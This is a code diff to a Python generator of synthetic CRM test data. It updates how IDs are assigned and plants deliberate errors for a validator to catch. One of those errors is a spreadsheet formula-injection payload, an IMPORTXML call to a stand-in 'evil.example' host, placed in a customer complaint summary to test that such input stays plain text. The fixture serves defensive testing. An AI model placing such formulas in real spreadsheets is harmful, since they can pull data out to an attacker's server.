@@ -15,7 +15,8 @@ What is in it
   derived from the name (ASCII-folded; Greek names transliterated) at reserved ``example.*``
   domains, Country as an ISO code or a name, Language matching the country (German customers get
   English), a few 29 February birthdays and a few birthdays in the week after ``today``.
-  Customers created in the last week have no ID yet: the bot numbers them on its first cycle.
+* IDs: rows typed in the last week (customers, deals, interactions) have none yet, nor do the
+  Sources, Templates, Automations and Campaigns rows: the bot numbers them on its first cycle.
 * Deals in a funnel (many Lead/Qualified, fewer Proposal/Negotiation, about 25% Won and 20% Lost
   with a lost reason and often a competitor), values in EUR, dates consistent with the stage.
 * Interactions over the last year: calls, meetings, emails, notes, complaints (some unanswered)
@@ -47,7 +48,7 @@ Deliberate mistakes (for the validator to find)
 6. Deals: an impossible date, Expected close "31/02/2025".
 7. Deals: an unknown stage "Wonn".
 8. Deals: a deal referencing a customer ID that does not exist.
-9. Interactions: a complaint typed by a customer (no manager) whose summary contains
+9. Interactions: a complaint typed by a customer (no manager) whose summary is
    ``=IMPORTXML("http://evil.example","//a")`` (it must stay text, never become a formula).
 """
 
@@ -702,7 +703,7 @@ def _interactions(
         rng, _random_day(rng, today - timedelta(days=20), today - timedelta(days=1))
     )
     injected = _interaction(rng, victim, "Complaint", moment, None, None)[1]
-    injected.update(summary=f"Nobody answers my emails {IMPORTXML}", manager=None, answered=None)
+    injected.update(summary=IMPORTXML, manager=None, answered=None)
     records.append((moment, injected))
     records.sort(key=lambda r: r[0])
     number = 0
